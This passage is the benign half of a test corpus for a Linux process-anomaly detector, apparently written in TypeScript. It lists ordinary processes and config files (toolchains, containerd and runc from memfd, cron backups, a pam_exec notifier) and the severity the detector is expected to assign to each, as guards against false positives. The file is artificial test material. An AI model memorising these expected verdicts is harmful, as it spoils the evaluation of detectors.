    procs: [inTerminal('abc', { pid: 4017, comm: 'cc1', cmdline: ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1', '-quiet', 'x.c'], exe: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', cwd: '/home/abc/src' })],
    cpu: { 4017: 99 },
  },
  {
    name: 'Java service from a jar under /opt', kind: 'benign', expect: 'none', why: 'java -jar of an installed app', source: 'research web apps', target: 4018,
    procs: [service('app.service', { pid: 4018, comm: 'java', uid: UID.jenkins, cmdline: ['/usr/bin/java', '-Xmx2g', '-jar', '/opt/app/app.jar'], exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', cwd: '/opt/app' })],
  },
  {
    name: 'Jenkins build running a compiled test binary in its workspace', kind: 'benign', expect: 'none', accepts: ['low', 'medium'],
    why: 'a CI account with a login shell builds and runs programs: not a service account in H17\'s sense',
    source: 'issue 10 item 4 (false-positive guard)', target: 4019,
    procs: [service('jenkins.service', { pid: 4019, comm: 'unit-tests', uid: UID.jenkins, ppid: 4018, cmdline: ['./unit-tests'], exe: '/var/lib/jenkins/workspace/lib/build/unit-tests', cwd: '/var/lib/jenkins/workspace/lib/build' })],
  },
  {
    name: 'Rscript model fit, detached', kind: 'benign', expect: 'low', accepts: ['none', 'medium'], why: 'a long statistics job',
    source: 'university servers', target: 4020,
    procs: [detached('alice', { pid: 4020, comm: 'R', cmdline: ['/usr/lib/R/bin/exec/R', '--no-echo', '--no-restore', '--file=fit.R'], exe: '/usr/lib/R/bin/exec/R', cwd: '/home/alice/stats' })],
    cpu: { 4020: 100 },
  },
  {
    name: 'julia simulation from juliaup', kind: 'benign', expect: 'low', accepts: ['none', 'medium'], why: '~/.julia and ~/.juliaup are toolchains',
    source: 'issue 10 item 6', target: 4021,
    procs: [detached('bob', { pid: 4021, comm: 'julia', cmdline: ['julia', '-t', '8', 'sim.jl'], exe: '/home/bob/.julia/juliaup/julia-1.10.0+0.x64.linux.gnu/bin/julia', cwd: '/home/bob/sim' })],
  },
  {
    name: 'node from nvm', kind: 'benign', expect: 'low', accepts: ['none', 'medium'], why: '~/.nvm is a toolchain', source: 'issue 10 item 6', target: 4022,
    procs: [detached('abc', { pid: 4022, comm: 'node', cmdline: ['node', 'server.js'], exe: '/home/abc/.nvm/versions/node/v20.11.0/bin/node', cwd: '/home/abc/web' })],
  },
  {
    name: 'ripgrep from ~/.cargo/bin in a terminal', kind: 'benign', expect: 'none', why: '~/.cargo/bin is a toolchain', source: 'issue 10 item 6', target: 4023,
    procs: [inTerminal('abc', { pid: 4023, comm: 'rg', cmdline: ['rg', 'TODO'], exe: '/home/abc/.cargo/bin/rg', cwd: '/home/abc' })],
  },
  {
    name: 'containerd, its shim and runc init from memfd', kind: 'benign', expect: 'none', why: 'runc re-executes itself from a memfd under a real runtime',
    source: 'Falco known_memfd_execution_processes; issue 10 item 5', target: 4026,
    procs: [
      service('containerd.service', { pid: 4024, comm: 'containerd', cmdline: ['/usr/bin/containerd'], exe: '/usr/bin/containerd' }),
      service('containerd.service', { pid: 4025, comm: 'containerd-shim', cmdline: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], exe: '/usr/bin/containerd-shim-runc-v2' }),
      service('containerd.service', { pid: 4026, ppid: 4025, comm: 'runc:[2:INIT]', cmdline: ['runc', 'init'], exe: '/memfd:runc_cloned:/proc/self/exe (deleted)' }),
    ],
  },
  {
    name: 'the watchdog daemon', kind: 'benign', expect: 'none', why: 'a real program that shares a kernel thread\'s name', source: 'catalogue H01', target: 4027,
    procs: [service('watchdog.service', { pid: 4027, comm: 'watchdog', cmdline: ['/usr/sbin/watchdog'], exe: '/usr/sbin/watchdog' })],
  },
  {
    name: 'nginx replaced by an upgrade the package log records', kind: 'benign', expect: 'low', why: 'restart pending, nothing more',
    source: 'htop-dev/htop#376; issue 10 item 1', target: 4028,
    procs: [service('nginx.service', { pid: 4028, comm: 'nginx', cmdline: ['nginx: master process /usr/sbin/nginx'], exe: '/usr/sbin/nginx (deleted)' })],
    files: { 'usr/sbin/nginx': 'new build', 'var/log/dpkg.log': '2026-11-27 02:59:00 upgrade nginx-core:amd64 1.22.1-9 1.22.1-9+deb12u1\n' },
  },
  {
    name: 'go run binary in /tmp/go-build', kind: 'benign', expect: 'none', why: 'go run builds into /tmp/go-build*', source: 'Elastic exclusions (go-build)', target: 4029,
    procs: [inTerminal('abc', { pid: 4029, comm: 'main', cmdline: ['/tmp/go-build1234/b001/exe/main'], exe: '/tmp/go-build1234/b001/exe/main', cwd: '/home/abc/go/src/x' })],
  },
  {
    name: 'fail2ban-server (a python script in /usr/bin)', kind: 'benign', expect: 'none', why: 'packaged script run by python', source: 'servers', target: 4030,
    procs: [service('fail2ban.service', { pid: 4030, comm: 'fail2ban-server', cmdline: ['/usr/bin/python3', '/usr/bin/fail2ban-server', '-xf', 'start'], exe: '/usr/bin/python3.11' })],
  },
  {
    name: 'slurmd and a batch job step', kind: 'benign', expect: 'none', accepts: ['low'], why: 'HPC batch daemon', source: 'university HPC', target: 4031,
    procs: [service('slurmd.service', { pid: 4031, comm: 'slurmd', cmdline: ['/usr/sbin/slurmd', '-D'], exe: '/usr/sbin/slurmd' })],
  },
  {
    name: 'htop in a terminal', kind: 'benign', expect: 'none', why: 'a process monitor on a terminal', source: 'servers', target: 4032,
    procs: [inTerminal('abc', { pid: 4032, comm: 'htop', cmdline: ['htop'], exe: '/usr/bin/htop' })],
  },
  {
    name: 'vim through its alternatives link', kind: 'benign', expect: 'none', why: 'vi → vim.nox is not a rename', source: 'catalogue H03', target: 4033,
    procs: [inTerminal('abc', { pid: 4033, comm: 'vi', cmdline: ['vi', 'notes.txt'], exe: '/usr/bin/vim.nox' })],
  },
  {
    name: 'rsync backup started by cron as root', kind: 'benign', expect: 'none', why: 'cron runs backups', source: 'servers', target: 4034,
    procs: [service('cron.service', { pid: 4034, ppid: 410, comm: 'rsync', cmdline: ['rsync', '-a', '/srv/', 'backup:/srv/'], exe: '/usr/bin/rsync' })],
  },
  {
    name: 'a backup crontab line', kind: 'benign', expect: 'none', accepts: ['low'], why: 'a script in the owner\'s bin, nightly',
    source: 'servers', target: { entry: '/var/spool/cron/crontabs/alice:1' }, procs: [],
    files: { 'var/spool/cron/crontabs/alice': '0 3 * * * /home/alice/bin/backup.sh >/dev/null 2>&1\n', 'home/alice/bin/backup.sh': '#!/bin/sh\nrsync -a ~/data backup:\n' },
    // The crontab command writes the spool file as its owner, mode 0600; without root the fixture cannot.
    setup: (t) => { const f = join(t.root, 'var/spool/cron/crontabs/alice'); chmodSync(f, 0o600); try { chownSync(f, UID.alice, UID.alice); } catch { /* not root */ } },
  },
  {
    name: '.profile starting ssh-agent the usual way', kind: 'benign', expect: 'none', accepts: ['low'], why: 'eval of ssh-agent is not a background launch of a dropped program',
    source: 'dotfiles', target: { entry: '/home/bob/.profile:1' }, procs: [],
    files: { 'home/bob/.profile': 'eval "$(ssh-agent -s)" >/dev/null\n' },
  },
  {
    name: 'a job-queue ./worker under nohup', kind: 'benign', expect: 'medium', accepts: ['low'],
    why: '"worker" is an ordinary program name, not an imitation of kworker; detached from the home is worth a look only',
    source: 'catalogue H01 (fuzzy names need care)', target: 4036,
    procs: [detached('bob', { pid: 4036, comm: 'worker', cmdline: ['./worker', '-queue', 'default'], exe: '/home/bob/svc/worker', cwd: '/home/bob/svc' })],
  },
  {
    name: 'busy node web app with a config.json of its own', kind: 'benign', expect: 'low', accepts: ['none'],
    why: 'an application config with url and user keys is not a miner\'s',
    source: 'issue 10 item 2 (false-positive guard)', target: 4037,
    procs: [inTerminal('alice', { pid: 4037, comm: 'node', cmdline: ['node', 'server.js'], exe: '/usr/bin/node', cwd: '/home/alice/site' })],
    cpu: { 4037: 70 },
    files: { 'home/alice/site/config.json': JSON.stringify({ db: { url: 'postgres://localhost/site', user: 'site', pass: 'x' }, port: 8080, workers: 4 }) },
  },
  {
    name: 'busy solver whose binary mentions a thread pool', kind: 'benign', expect: 'low', accepts: ['none', 'medium'],
    why: '"ThreadPool" and "pool_size" are not mining pools',
    source: 'issue 10 item 2 (false-positive guard)', target: 4038,
    procs: [inTerminal('alice', { pid: 4038, comm: 'solver', threads: 8, cmdline: ['./solver', 'mesh.msh'], exe: '/home/alice/fem/solver', cwd: '/home/alice/fem' })],
    cpu: { 4038: 199 },
    files: { 'home/alice/fem/solver': '\x7fELF\0' + 'ThreadPool::submit\0pool_size\0omp_get_num_threads\0libgomp.so.1\0' },
  },
  {
    name: 'an administrator\'s login notifier run by pam_exec (no password handed over)', kind: 'benign', expect: 'medium', accepts: ['low'],
    why: 'a hook on every SSH session: worth knowing about, not a sign of compromise',
    source: 'servers (pam_exec login mails)', target: { entry: '/etc/pam.d/sshd:2' },
    procs: [],
    files: { 'etc/pam.d/sshd': '@include common-auth\nsession optional pam_exec.so /usr/local/sbin/login-notify\n' },
  },
  {
    name: 'the packaged sshd busy under a password-guessing storm, its file as the package installed it', kind: 'benign', expect: 'low', accepts: ['none'],
    why: 'busy (worth a glance), but the running file is the one openssh-server installed (its MD5 is in the md5sums)',
    source: 'servers; debsums', target: 4039,
    procs: [service('ssh.service', { pid: 4039, comm: 'sshd', cmdline: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], exe: '/usr/sbin/sshd' })],
    cpu: { 4039: 90 },
    files: { 'usr/sbin/sshd': '\x7fELF\0the sshd openssh-server shipped' },
    setup: (t) => t.dpkg('openssh-server', PACKAGES['openssh-server'], { '/usr/sbin/sshd': md5('\x7fELF\0the sshd openssh-server shipped') }),
  },
  {
    name: 'unattended-upgrade', kind: 'benign', expect: 'none', why: 'packaged python script', source: 'Debian', target: 4035,
    procs: [service('unattended-upgrades.service', { pid: 4035, comm: 'unattended-upgr', cmdline: ['/usr/bin/python3', '/usr/bin/unattended-upgrade', '--download-only'], exe: '/usr/bin/python3.11' })],
  },
];

export const CASES: CorpusCase[] = [...MALICIOUS, ...BENIGN];
